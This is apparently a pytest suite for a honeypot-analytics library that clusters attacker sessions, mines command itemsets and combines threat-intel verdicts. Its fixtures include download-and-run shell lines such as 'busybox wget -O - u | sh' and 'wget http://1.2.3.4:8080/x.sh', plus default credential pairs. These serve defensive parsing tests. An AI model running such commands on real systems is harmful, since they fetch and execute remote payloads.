"""Expected values that were worked out from the definitions, without the engine."""

import math
from collections import Counter
from itertools import combinations

import numpy as np
import pytest
from pyspark.sql import functions as F

from tidemark.functions import network as N
from tidemark.functions import shell
from tidemark.functions import text as T
from tidemark.functions import vectors as V
from tidemark.functions import verdicts as R
from tidemark.operators import clustering, commands, console, findings, mining


def one(spark, *columns):
    return spark.range(1).select(*[c.alias(f"c{k}") for k, c in enumerate(columns)]).first()


def test_normal_form_and_ids(spark):
    c = F.lit("  uname \t -a\n")
    assert list(one(spark, T.normalised(c), T.truncated(c), T.hash16(T.normalised(c)))) == ["uname -a", False, "28ba533b0f3c4df6"]
    long = F.lit("a" * 4001)
    assert list(one(spark, F.length(T.normalised(long)), T.truncated(long))) == [4000, True]
    members = F.array(*[F.lit(x) for x in ("s3", "s1", "s2", "s1")])
    assert one(spark, T.playbook_id(members))[0] == "sescl-194591a924f6704e"
    assert one(spark, T.campaign_id(F.array(F.lit("sescl-b"), F.lit("sescl-a"))))[0] == "cmp-beh-01cffe539d039ff5"
    assert one(spark, T.finding_id("playbook", F.lit("sescl-a")))[0] == "find-pla-d9f130f18444374a"


def test_credential_bins(spark):
    assert list(one(spark, *[T.credential_bin(F.lit(x)) for x in ("root:123456", "admin:admin", "root:", ":admin")])) == [11, 0, 4, 2]
    assert one(spark, T.credential(F.lit(None).cast("string"), F.lit("")))[0] is None


def test_pool_weights_and_pools(spark):
    got = one(spark, *[V.pool_weight(F.lit(x).cast("double")) for x in (None, 1, 50, 1e5, 1e6)])
    assert np.allclose(list(got), [10.819788, 10.819788, 7.581110, 0, 0], atol=1e-6)
    rows = spark.createDataFrame([("p", [3.0, 0.0], 1.0), ("p", [0.0, 4.0], 50.0), ("z", [0.0, 0.0], 1.0)], "k string, embedding array<double>, n double")
    even = {r["k"]: r["embedding"] for r in V.mean_pool(rows, "k").collect()}
    assert np.allclose(even["p"], [0.707107] * 2, atol=1e-6) and even["z"] == [0.0, 0.0]
    weighted = V.mean_pool(rows.where("k = 'p'").withColumn("w", V.pool_weight(F.col("n"))), "k", weight="w").first()
    assert np.allclose(weighted["embedding"], [0.818974, 0.573831], atol=1e-6)


@pytest.mark.parametrize("angles, groups", [((0, 0.20, 0.40), 3), ((0, 0.18, 0.36), 1)])
def test_merge_guard(spark, angles, groups):
    rows = spark.createDataFrame([(str(k), [math.cos(a), math.sin(a)]) for k, a in enumerate(angles)], "cluster_id string, centroid array<double>")
    assert clustering.merged(rows).select("group_id").distinct().count() == groups


def test_novelty_edges(spark):
    rows = spark.createDataFrame([(1, [0.0, 0.0]), (2, [-1.0, 0.0]), (3, [2.0, 0.0])], "id long, embedding array<double>")
    cents = spark.createDataFrame([("a", [1.0, 0.0])], "cluster_id string, centroid array<double>")
    assert [r["novelty"] for r in clustering.novelty(rows, cents).orderBy("id").collect()] == [1.0, 1.0, 0.0]
    assert {r["novelty"] for r in clustering.novelty(rows, cents.limit(0)).collect()} == {1.0}


def test_itemsets(spark):
    bags = [["A", "B", "C"]] * 5 + [["A", "B"]] * 2 + [["C"]] * 3
    tx = spark.createDataFrame([(k, b) for k, b in enumerate(bags)], "source_ip long, items array<string>")
    sets = mining.itemsets(tx)
    assert {"".join(r["items"]): r["support"] for r in sets.collect()} == {"AB": 7, "AC": 5, "BC": 5, "ABC": 5}
    assert {"".join(r["items"]): r["support"] for r in mining.closed(sets).collect()} == {"AB": 7, "ABC": 5}
    assert mining.holders(sets, tx).groupBy("items").count().where("size(items) = 3").first()["count"] == 5
    assert mining.itemsets(tx.limit(2)).count() == 0


def test_holders_by_parts(spark, monkeypatch):
    rng = np.random.default_rng(5)
    bags = [[str(x) for x in rng.choice(12, rng.integers(1, 10), replace=False)] for _ in range(90)] + [["0", "0", "1"], ["0", "0"], [None, "2"], [], None]
    sets = [["0", "1"], ["2", "3", "4"], ["5", "6", "7", "8"], ["0", "none"], ["9"], ["2", None], []] + [[str(a), str(b)] for a in range(12) for b in range(a)]
    tx = spark.createDataFrame([(f"k{k}", b) for k, b in enumerate(bags)], "source_ip string, items array<string>")
    wanted = spark.createDataFrame([(s,) for s in sets], "items array<string>")
    want = sorted((str(s), f"k{k}") for s in sets for k, b in enumerate(bags) if s and None not in s and set(s) <= set(b or []))
    for part in (1 << 20, 16):
        monkeypatch.setattr(mining, "PART", part)
        assert sorted((str(r["items"]), r["source_ip"]) for r in mining.holders(wanted, tx).collect()) == want
        counts = mining.holder_counts(wanted, tx)
        assert {str(r["items"]): r["holders"] for r in counts.collect()} == Counter(s for s, _ in want)
        assert "Join" not in counts._jdf.queryExecution().toString()  # matches of single items are never rows
    assert mining.holders(wanted.limit(0), tx).count() == mining.holder_counts(wanted, tx.limit(0)).count() == 0


def test_itemsets_by_levels(spark, monkeypatch):
    rng = np.random.default_rng(6)
    bags = [[str(x) for x in rng.choice(9, rng.integers(1, 8), replace=False)] for _ in range(120)] + [["0", "1", "0", None]] * 3 + [[], None]
    tx = spark.createDataFrame([(b,) for b in bags], "items array<string>")
    want = {c: n for size in range(1, 6) for c in combinations("012345678", size) if (n := sum(set(c) <= set(b or []) for b in bags)) >= 15}
    for pairs in (1 << 21, 30):
        monkeypatch.setattr(mining, "PAIRS", pairs)
        monkeypatch.setattr(mining, "PART", pairs)
        for least, most in ((2, 5), (1, 3)):
            assert {tuple(r["items"]): r["support"] for r in mining.itemsets(tx, 15, least, most).collect()} == {c: n for c, n in want.items() if least <= len(c) <= most}


def test_artifacts(spark):
    pick = lambda text: [(a["kind"], a["value"]) for a in one(spark, T.artifacts(F.lit(text)))[0]]
    assert pick("wget http://1.2.3.4:8080/x.sh; curl HTTPS://a.b") == [("url", "http://1.2.3.4:8080/x.sh"), ("url", "HTTPS://a.b")]
    assert pick("f" * 64) == [] and pick("sha256sum " + "f" * 64) == [("hash", "f" * 64)] and pick("md5:" + "A" * 32) == [("hash", "a" * 32)]
    assert pick("echo ssh-rsa " + "A" * 50 + " me") == [("ssh_key", "ssh-rsa " + "A" * 32)]


def test_infrastructure(spark):
    rows = [("s1", "i1", "url", "u1"), ("s2", "i2", "url", "u1"), ("s2", "i2", "hash", "h"), ("s3", "i1", "hash", "h"), ("s4", "i9", "url", "lone")]
    found = mining.infrastructure_campaigns(spark.createDataFrame(rows, "session_id string, source_ip string, kind string, value string")).collect()
    assert [(r["session_count"], r["ip_count"]) for r in found] == [(3, 2)]
    weights = spark.createDataFrame([(f"s{k}", "i", "url", "u") for k in range(4)] + [(f"s{k}", "i", "url", "v") for k in range(2)], "session_id string, source_ip string, kind string, value string")
    assert {r["value"]: round(r["idf"], 6) for r in mining.artifact_weights(weights).collect()} == {"u": 0.0, "v": 0.510826}


def test_shell():
    assert shell.parse("cd /tmp;wget -q http://a/x ; FOO=1 ./run.sh -x") == [("cd", ["-q"]), ("run.sh", ["-x"])]
    assert shell.parse("/bin/busybox wget -O - u | sh") == [("busybox", ["-O"]), ("wget", ["-O"]), ("sh", [])]
    assert shell.parse("it's open") == [] and shell.parse(None) == []


def test_abuse(spark):
    v = lambda s, w=False: R.abuse(F.lit(s), F.lit(1), F.lit(None).cast("string"), F.lit(w))
    assert [one(spark, v(s))[0]["confidence"] for s in (50, 55, 65, 75, 85, 100)] == [5, 5, 7, 7, 9, 10]
    clean = one(spark, v(60, True))[0]
    assert (clean["malicious"], clean["authoritative_clean"], clean["confidence"]) == (False, True, 8)


def test_other_sources(spark):
    assert [one(spark, R.reports_confidence(F.lit(n)))[0] for n in (0, 1, 10, 1000, 100000)] == [1, 4, 5, 8, 10]
    s = one(spark, R.noise(F.lit("suspicious"), F.lit(False), F.lit(True), F.lit("x")))[0]
    assert (s["malicious"], s["label"], s["confidence"]) == (None, "greynoise_suspicious", 5)
    entry = lambda n, kind=None, who=None: F.struct(F.lit(n).alias("confidence_level"), F.lit(kind).cast("string").alias("threat_type"), F.lit(who).cast("string").alias("malware"), F.lit(who).cast("string").alias("malware_alias"))
    levels = [one(spark, R.threat_entries(F.array(entry(10, "x", "y"), entry(n, "Botnet CC", "Mirai"))))[0] for n in (49, 50, 75, 100)]
    assert [x["label"] for x in levels] == ["threatfox_low"] + ["threatfox_botnet cc"] * 3 and not any(x["evidence_direct"] for x in levels)
    assert levels[0]["tags"] == ["threatfox_low_confidence", "mirai"] and levels[3]["tags"] == ["threatfox_match", "threatfox_type_botnet_cc", "mirai"]
    assert [x["malicious"] for x in levels] == [None, True, True, True] and [x["confidence"] for x in levels] == [None, 5, 7, 10]


def test_consensus(spark):
    direct, clean, vote, none = R.verdict(True, "d", 9, direct=True), R.verdict(False, "c", 8, clean=True), R.verdict(True, "v", 6), R.verdict()
    ask = lambda *vs: one(spark, R.consensus(F.array(*vs) if vs else F.array().cast(f"array<{R.VERDICT}>")))[0]
    a, b, c, d = ask(direct, clean), ask(vote, clean), ask(vote, none, none), ask()
    assert (a["malicious"], a["override"], a["label"]) == (True, "direct_malicious", "d")
    assert (b["malicious"], b["override"], b["label"]) == (False, "authoritative_clean", "c")
    assert (c["malicious"], c["override"], round(c["rarity"], 4)) == (True, "", 0.6667)
    assert (d["malicious"], d["label"], d["rarity"]) == (False, "unknown", 1.0)


def test_gate(spark):
    intel = F.array(F.struct(F.lit("").alias("override"), F.lit(True).alias("malicious"), F.lit(2).alias("n_malicious")))
    low, both = F.array(F.lit("low_confidence<=4")), F.array(F.lit("low_confidence<=4"), F.lit("ip_literal"))
    assert list(one(spark, commands.intel_skip(low, intel), commands.intel_skip(both, intel))) == ["intel_skip_commodity_consensus", None]
    stored = F.array(*[F.lit(x) for x in ("budget_exhausted", "rare_tld", "intel_skip_commodity_consensus")])
    assert one(spark, commands.retriaged(stored, F.array(F.lit("ip_literal"))))[0] == ["budget_exhausted", "ip_literal"]


def test_scores(spark):
    none = F.lit(None).cast("double")
    p = lambda *a: one(spark, V.priority(*a))[0]
    assert round(p(F.lit(0.8), none, V.centrality(F.lit(999)), F.lit(168.0)), 6) == 0.624978
    assert round(p(none, none, V.centrality(F.lit(4), 100), none), 6) == 0.052310
    assert list(map(lambda x: round(x, 6), one(spark, V.playbook_score(F.lit(9), F.lit(0.2)), V.campaign_score(F.lit(4), F.lit(9))))) == [0.483543, 3.705868]
    block = one(spark, V.scaled_log(F.lit(50), 1e5), V.scaled_log(F.lit(5), 1e4))
    assert [round(x, 6) for x in block] == [0.017076, 0.009727]


def test_confidence(spark):
    assert [one(spark, T.coerced_confidence(F.lit(x)))[0] for x in ("0.65", "7.5", "8.5", "42", "x", "1")] == [6, 8, 8, 10, 1, 1]


def test_canonical_forms(spark):
    assert list(one(spark, *[N.canonical_url(F.lit(x)) for x in ("HTTP://Ex.COM:443/a?b=1#c", "ftp://h", "ssh://h")])) == ["http://ex.com/a", "ftp://h/", None]
    assert list(one(spark, *[N.canonical_ip(F.lit(x)) for x in ("8.8.8.8", "10.0.0.1", "127.0.0.1", "x")])) == ["8.8.8.8", None, None, None]
    assert list(one(spark, N.canonical_domain(F.lit("Ex.Com.")), N.canonical_domain(F.lit("nodot")), N.canonical_hash(F.lit("A" * 40)))) == ["ex.com", None, "a" * 40]


def test_search_terms(spark):
    asked = ["1.2.3.4", "2001:db8::1", "a" * 64, "T1059.004", "TA0001", "AS123", "us", "abcdef012345", "42", "some text", "Outlier"]
    got = [[(r["type"]) for r in one(spark, console.detect(F.lit(x)))[0]] for x in asked]
    three = ["command_cluster", "session_cluster", "ip_cluster"]
    assert got[:-2] == [["ip"], ["ip"], ["command_hash"], ["mitre_technique"], ["mitre_tactic"], ["asn"], ["country"], ["session", "freetext"], three]
    assert got[-2] == ["freetext"] and sorted(got[-1]) == sorted(three)


def test_findings_keep_state(spark):
    h = "array<struct<ts:timestamp,from:string,to:string,note:string>>"
    stored = spark.sql(f"select 'f' finding_id, 'playbook' kind, 'v' value, 1.0D score, 'confirmed' status, cast(array(named_struct('ts', timestamp'2024-01-01', 'from', 'new', 'to', 'confirmed', 'note', 'n')) as {h}) status_history, timestamp'2024-01-01' first_seen_at, timestamp'2024-01-02' last_seen_at")
    mined = spark.sql("select 'f' finding_id, 'playbook' kind, 'v' value, 2.0D score, timestamp'2024-02-01' first_seen_at, timestamp'2024-02-02' last_seen_at")
    r = findings.upsert(stored, mined).first()
    assert (r["score"], r["status"], len(r["status_history"]), str(r["first_seen_at"])[:10], str(r["last_seen_at"])[:10]) == (2.0, "confirmed", 1, "2024-01-01", "2024-02-02")
    with pytest.raises(Exception, match="unknown status"):
        findings.set_status(stored, spark.createDataFrame([("f", "odd", "")], "finding_id string, to_status string, note string"), F.current_timestamp()).collect()
    with pytest.raises(ValueError):
        findings.page(stored, ["odd"])


def test_patch_clears(spark):
    t = spark.createDataFrame([("a", "c1", "p1"), ("b", "c2", "p2")], "id string, cluster_id string, playbook_id string")
    out = findings.patched(t, spark.createDataFrame([("a", "c9")], "id string, cluster_id string"), "id", clear=("playbook_id",))
    assert sorted(map(tuple, out.collect()), key=str) == [("a", "c9", None), ("b", "c2", "p2")]


def test_density_clusters_find_blobs():
    rng = np.random.default_rng(1)
    blobs = np.concatenate([rng.normal(c, 0.05, (30, 2)) for c in ((0, 0), (3, 0), (0, 3))] + [np.array([[9.0, 9.0], [-9.0, 4.0]])])
    labels = clustering.hdbscan(blobs, 5, 2)
    assert len(set(labels[:90])) - (-1 in labels[:90]) == 3 and list(labels[90:]) == [-1, -1]
    assert all(len(set(labels[k : k + 30]) - {-1}) == 1 for k in (0, 30, 60))
    assert list(clustering.hdbscan(np.zeros((2, 2)), 3, 2)) == [-1, -1]


def test_density_clusters_beyond_a_task(spark, monkeypatch):
    """Groups of more than `most` rows were an error; they get the labels that one task gives."""
    rng = np.random.default_rng(4)
    points = np.concatenate([rng.normal(c, 0.2, (50, 4)) for c in rng.normal(0, 1, (4, 4))] + [rng.normal(0, 2, (30, 4))])
    points = np.concatenate([points, points[:9], points[:9]])
    rows = [("large" if k % 6 else "small", k, [float(x) for x in p], 1 + k % 3) for k, p in enumerate(points)]
    rows += [("large", 1000, None, 1), ("large", 1001, [1.0, float("nan"), 0.0, 0.0], 1), ("small", 1002, [None] * 4, 1)]
    table = spark.createDataFrame(rows, "layer string, id long, embedding array<double>, n long")
    monkeypatch.setattr(clustering, "NEAR", 3)  # so that points have to look again

    def groups(**given):
        found = {}
        for r in clustering.density_clusters(table, "layer", **given).collect():
            found.setdefault((r["layer"], r["cluster_id"]), set()).add(r["id"])
        assert {1000, 1001} <= found["large", "outlier"] and 1002 in found["small", "outlier"] and sum(map(len, found.values())) == len(rows)
        return sorted((k[0], k[1] == "outlier", sorted(v)) for k, v in found.items())

    for given in ({"min_samples": 2}, {"min_samples": 4, "unit": False}, {"weight": "n", "min_cluster_size": 6}):
        assert len(want := groups(**given)) > 4 and groups(most=100, **given) == want


def test_components_match_union_find(spark):
    rng = np.random.default_rng(3)
    pairs = [(int(a), int(b)) for a, b in rng.integers(0, 60, (45, 2)) if a != b] + [(k, k + 1) for k in range(100, 140)]
    up = {}

    def root(x):
        while up.setdefault(x, x) != x:
            x = up[x]
        return x

    for a, b in pairs:
        ra, rb = root(a), root(b)
        up[max(ra, rb)] = min(ra, rb)
    got = {r["node"]: r["component"] for r in mining.components(spark.createDataFrame(pairs, "a long, b long")).collect()}
    assert got == {x: root(x) for x in got} and len(got) == len(up)
